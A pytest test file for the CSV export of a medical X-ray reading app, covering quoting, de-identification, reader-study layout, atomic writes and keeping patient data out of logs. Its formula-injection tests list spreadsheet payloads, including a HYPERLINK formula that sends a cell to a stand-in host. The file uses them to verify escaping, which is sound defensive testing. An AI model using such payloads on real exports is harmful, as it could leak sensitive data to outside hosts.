"""CSV export: format, formula-injection safety, de-identification, MRMC layout, atomicity."""

from __future__ import annotations

import argparse
import csv
import logging
import os
import sqlite3
import tempfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from records_helpers import CANARY_ID, CANARY_NAME, make_input

import xray_desktop.records.atomic as atomic_mod
import xray_desktop.records.export as export_mod
from xray_desktop.domain import Diagnosis
from xray_desktop.records import Store, StoreError, escape_cell, export_csv, unescape_cell
from xray_desktop.records.commands import run_export, run_verify
from xray_desktop.records.deid import Pseudonymizer
from xray_desktop.records.export import DEID_DROPPED, FORMULA_TRIGGERS, MRMC_COLUMNS, READS_COLUMNS, is_number


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_reads_layout_format(store: Store, tmp_path: Path) -> None:
    a = store.add_read(make_input(study_key="A", note='he said "hi"\r\nnext line, comma'))
    store.add_read(make_input(study_key="B"))
    fix = store.add_read(a.to_input(final_diagnosis=Diagnosis.NORMAL, supersedes=a.id))
    out = tmp_path / "out.csv"
    assert export_csv(store, out) == 2
    raw = out.read_bytes()
    assert raw.startswith(b'"id","created_at"')  # QUOTE_ALL, no BOM
    assert raw.endswith(b"\r\n")
    rows = read_csv(out)
    assert list(rows[0]) == list(READS_COLUMNS)
    by_key = {r["study_key"]: r for r in rows}
    assert by_key["A"]["id"] == str(fix.id) and by_key["A"]["final_diagnosis"] == "NORMAL"
    assert by_key["A"]["supersedes"] == str(a.id) and by_key["A"]["agreement"] == "disagree"
    assert by_key["A"]["created_at"] == fix.created_at.isoformat(timespec="microseconds")
    assert by_key["A"]["ai_probability"] == "0.8125" and by_key["A"]["patient_name"] == "DOE^JOHN"
    assert by_key["A"]["note"] == 'he said "hi"\r\nnext line, comma'
    assert by_key["B"]["supersedes"] == ""  # None -> empty cell

    assert export_csv(store, out, all_history=True) == 3
    assert [r["id"] for r in read_csv(out)] == ["1", "2", "3"]
    assert export_csv(store, out, reviewer="nobody") == 0
    assert read_csv(out) == [] and out.read_text(encoding="utf-8").startswith('"id"')
    if os.name == "posix":
        assert out.stat().st_mode & 0o777 == 0o600


# -- formula injection ----------------------------------------------------------------

NASTY = [
    '=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "'=already", "''=twice", "'plain", "'", "", "normal text", "=", "-",
]  # fmt: skip
text_cells = st.one_of(
    st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))),
    st.builds(
        lambda p, t: p + t,
        st.sampled_from(NASTY),
        st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=20),
    ),
)


@given(text_cells)
def test_escape_round_trip_and_safe(value: str) -> None:
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    assert escaped[:1] not in FORMULA_TRIGGERS or escaped == "" or is_number(escaped)
    assert escaped in (value, "'" + value)


@pytest.mark.parametrize("value", NASTY)
def test_escape_examples(value: str) -> None:
    assert escape_cell(value)[:1] not in FORMULA_TRIGGERS or is_number(value)
    assert unescape_cell(escape_cell(value)) == value


def test_escape_leaves_ordinary_cells_alone() -> None:
    assert escape_cell("0.25") == "0.25" and escape_cell("'tis") == "'tis" and escape_cell("") == ""
    assert escape_cell("=1") == "'=1" and escape_cell("'=1") == "''=1"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(note=text_cells, reviewer=text_cells.filter(lambda s: s.strip()), finding=text_cells)
def test_export_property_no_live_formula_and_round_trip(note: str, reviewer: str, finding: str) -> None:
    with tempfile.TemporaryDirectory() as d:
        with Store.open(Path(d) / "r.db") as s:
            s.add_read(make_input(note=note, reviewer=reviewer, other_finding=finding, gate_result=note))
            out = Path(d) / "o.csv"
            assert export_csv(s, out) == 1
            with open(out, encoding="utf-8", newline="") as fh:
                rows = list(csv.reader(fh))
    assert len(rows) == 2
    for cell in rows[0] + rows[1]:
        assert cell[:1] not in FORMULA_TRIGGERS or is_number(cell)
    got = dict(zip(rows[0], rows[1], strict=True))
    assert unescape_cell(got["note"]) == note
    assert unescape_cell(got["gate_result"]) == note
    assert unescape_cell(got["reviewer"]) == reviewer
    assert unescape_cell(got["other_finding"]) == finding


# -- de-identification -----------------------------------------------------------------


def test_deidentify_drops_phi_and_pseudonyms_are_stable(store: Store, tmp_path: Path) -> None:
    phi = dict(
        patient_id=CANARY_ID, patient_name=CANARY_NAME, birth_date="19611231", accession="ACC-CANARY",
        file_path=f"/data/{CANARY_NAME}/x.dcm", note=f"seen {CANARY_NAME}", study_date="20240315",
    )  # fmt: skip
    store.add_read(make_input(study_key="1.2.3.999", **phi))
    store.add_read(make_input(study_key="1.2.3.1000", **phi))
    out1, out2 = tmp_path / "d1.csv", tmp_path / "d2.csv"
    assert export_csv(store, out1, deidentify=True) == 2
    assert export_csv(store, out2, deidentify=True) == 2
    text = out1.read_text(encoding="utf-8")
    for secret in (*phi.values(), "1.2.3.999", "1.2.3.1000", "ab" * 32, "19611231"):
        assert secret not in text, secret
    rows1, rows2 = read_csv(out1), read_csv(out2)
    assert set(rows1[0]).isdisjoint(DEID_DROPPED)
    assert {r["study_key"] for r in rows1} == {r["study_key"] for r in rows2}
    assert all(r["study_key"].startswith("S-") and len(r["study_key"]) == 26 for r in rows1)
    assert rows1[0]["study_key"] != rows1[1]["study_key"]
    assert rows1[0]["study_date"] == "2024"  # year only
    salt = tmp_path / "data" / "export_salt"  # settings.data_dir(), per the conftest env
    assert salt.stat().st_size == 32
    if os.name == "posix":
        assert salt.stat().st_mode & 0o777 == 0o600
    # a different salt gives unrelated pseudonyms
    out3 = tmp_path / "d3.csv"
    export_csv(store, out3, deidentify=True, salt_path=tmp_path / "other_salt")
    assert {r["study_key"] for r in read_csv(out3)}.isdisjoint({r["study_key"] for r in rows1})


def test_damaged_salt_is_an_error_not_replaced(store: Store, tmp_path: Path) -> None:
    store.add_read(make_input())
    salt = tmp_path / "salt"
    salt.write_bytes(b"short")
    with pytest.raises(StoreError, match="damaged"):
        export_csv(store, tmp_path / "o.csv", deidentify=True, salt_path=salt)
    assert salt.read_bytes() == b"short" and not (tmp_path / "o.csv").exists()


def test_pseudonymizer_is_keyed() -> None:
    a, b = Pseudonymizer(b"a" * 32), Pseudonymizer(b"b" * 32)
    assert a("k") == a("k") != b("k")
    with pytest.raises(ValueError):
        Pseudonymizer(b"short")


# -- MRMC ------------------------------------------------------------------------------------


def test_mrmc_layout(store: Store, tmp_path: Path) -> None:
    first = store.add_read(make_input(reviewer="r1", study_key="c1", final_diagnosis=Diagnosis.NORMAL, confidence=5))
    store.add_read(first.to_input(final_diagnosis=Diagnosis.PNEUMONIA, confidence=2, supersedes=first.id))
    store.add_read(make_input(reviewer="r2", study_key="c1", final_diagnosis=Diagnosis.NORMAL, confidence=1))
    store.add_read(make_input(reviewer="r2", study_key="c2", final_diagnosis=Diagnosis.INDETERMINATE))
    store.add_read(make_input(reviewer="r1", study_key="c2", final_diagnosis=Diagnosis.OTHER, confidence=4))
    out = tmp_path / "m.csv"
    assert export_csv(store, out, layout="mrmc", truth={"c1": 1}) == 4
    rows = read_csv(out)
    assert list(rows[0]) == list(MRMC_COLUMNS)
    got = {(r["reader"], r["case"]): (r["truth"], r["rating"]) for r in rows}
    assert got == {
        ("r1", "c1"): ("1", "8"),  # PNEUMONIA conf 2 -> 6 + 2 (the amendment, not the first read)
        ("r2", "c1"): ("1", "5"),  # NORMAL conf 1 -> 6 - 1
        ("r2", "c2"): ("", "6"),  # INDETERMINATE
        ("r1", "c2"): ("", "2"),  # OTHER counts as no pneumonia: 6 - 4
    }
    assert {r["role"] for r in rows} == {""} and rows[0]["diagnosis"] in ("PNEUMONIA", "NORMAL")
    export_csv(store, out, layout="mrmc", deidentify=True)
    assert all(r["case"].startswith("S-") for r in read_csv(out))
    with pytest.raises(ValueError, match="mrmc"):
        export_csv(store, out, layout="mrmc", all_history=True)
    with pytest.raises(ValueError, match="layout"):
        export_csv(store, out, layout="xml")  # type: ignore[arg-type]


# -- atomicity -------------------------------------------------------------------------------


def test_failure_mid_write_keeps_old_file_and_no_litter(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.add_reads(make_input(study_key=f"k{i}") for i in range(50))
    out = tmp_path / "exp" / "out.csv"
    out.parent.mkdir()
    out.write_text("old content\n", encoding="utf-8")
    real = export_mod._write_rows

    def failing(fh, rows):
        def some_then_fail():
            for i, row in enumerate(rows):
                if i == 10:
                    raise OSError(28, "No space left on device")
                yield row

        real(fh, some_then_fail())
        raise AssertionError("unreachable")

    monkeypatch.setattr(export_mod, "_write_rows", failing)
    with pytest.raises(OSError, match="No space"):
        export_csv(store, out)
    assert out.read_text(encoding="utf-8") == "old content\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["out.csv"]


def test_failure_at_rename_keeps_old_file(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store.add_read(make_input())
    out = tmp_path / "out.csv"
    out.write_text("old", encoding="utf-8")

    def no_replace(src: object, dst: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(atomic_mod.os, "replace", no_replace)
    with pytest.raises(PermissionError):
        export_csv(store, out)
    assert out.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.csv")] == []


def test_stale_temp_from_a_killed_export_is_removed(store: Store, tmp_path: Path) -> None:
    store.add_read(make_input())
    out = tmp_path / "out.csv"
    stale, fresh, unrelated = (tmp_path / n for n in (".out.csv.abc123.tmp", ".out.csv.def456.tmp", ".x.tmp"))
    for p in (stale, fresh, unrelated):
        p.write_text("partial PHI", encoding="utf-8")
    old = time.time() - export_mod.STALE_TEMP_S - 60
    os.utime(stale, (old, old))
    os.utime(unrelated, (old, old))
    export_csv(store, out)
    assert not stale.exists()
    assert fresh.exists() and unrelated.exists()  # maybe another export's; not ours


def test_missing_folder_raises_without_litter(store: Store, tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        export_csv(store, tmp_path / "nope" / "o.csv")
    assert not (tmp_path / "nope").exists()


# -- PHI never logged -------------------------------------------------------------------------


def test_phi_canary_never_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    db = tmp_path / "canary.db"
    phi = dict(
        patient_name=CANARY_NAME, patient_id=CANARY_ID, accession=CANARY_ID + "A",
        file_path=f"/x/{CANARY_NAME}/img.dcm", birth_date="19000101", note=f"note {CANARY_NAME}",
    )  # fmt: skip
    with Store.open(db) as s:
        r = s.add_read(make_input(study_key="CANARY-KEY", **phi))
        s.add_read(r.to_input(final_diagnosis=Diagnosis.NORMAL, supersedes=r.id))
        s.latest_for("CANARY-KEY")
        s.history("CANARY-KEY")
        export_csv(s, tmp_path / "a.csv", all_history=True)
        export_csv(s, tmp_path / "b.csv", deidentify=True)
        export_csv(s, tmp_path / "c.csv", layout="mrmc")
        assert s.verify().ok
        with pytest.raises(StoreError):
            s.add_read(make_input(study_key="OTHER", supersedes=r.id, **phi))
    raw = sqlite3.connect(db)
    raw.execute("DROP TRIGGER reads_no_update")
    raw.execute("UPDATE reads SET patient_name = ? WHERE id = 1", (CANARY_NAME + "!",))
    raw.commit()
    raw.close()
    with Store.open(db) as s:
        assert not s.verify().ok
    ns = argparse.Namespace(db=db, csv=tmp_path / "d.csv", all_history=False, deidentify=False,
                            reviewer=None, since=None, until=None, layout="reads")  # fmt: skip
    assert run_export(ns) == 3  # written, with a warning: the chain is broken
    assert run_verify(argparse.Namespace(db=db)) == 1

    assert caplog.records, "expected the records layer to log something"
    logged = caplog.text + "".join(str(rec.args) + str(rec.msg) for rec in caplog.records)
    for secret in (CANARY_NAME, CANARY_ID, "CANARY-KEY", "19000101"):
        assert secret not in logged


def test_mrmc_layout_keeps_first_impressions_finals_and_adjudications(store: Store, tmp_path: Path) -> None:
    from xray_desktop.records.reads import ADJUDICATOR, FIRST_IMPRESSION, READ_FIRST_FINAL

    no_ai = dict(ai_probability=None, threshold=None, ai_label="", operating_point="")
    first = store.add_read(make_input(reviewer="r1", study_key="c1", final_diagnosis=Diagnosis.NORMAL, confidence=3,
                                      role=FIRST_IMPRESSION, **no_ai))
    final = store.add_read(make_input(reviewer="r1", study_key="c1", confidence=4, role=READ_FIRST_FINAL,
                                      supersedes=first.id, ai_probability=0.9))
    store.add_read(final.to_input(reviewer="r2", final_diagnosis=Diagnosis.NORMAL, confidence=5, role=ADJUDICATOR,
                                  supersedes=final.id))
    out = tmp_path / "m.csv"
    assert export_csv(store, out, layout="mrmc") == 3
    got = [(r["reader"], r["case"], r["role"], r["diagnosis"], r["confidence"], r["ai_probability"], r["rating"])
           for r in read_csv(out)]
    assert got == [("r1", "c1", FIRST_IMPRESSION, "NORMAL", "3", "", "3"),
                   ("r1", "c1", READ_FIRST_FINAL, "PNEUMONIA", "4", "0.9", "10"),
                   ("r2", "c1", ADJUDICATOR, "NORMAL", "5", "0.9", "1")]
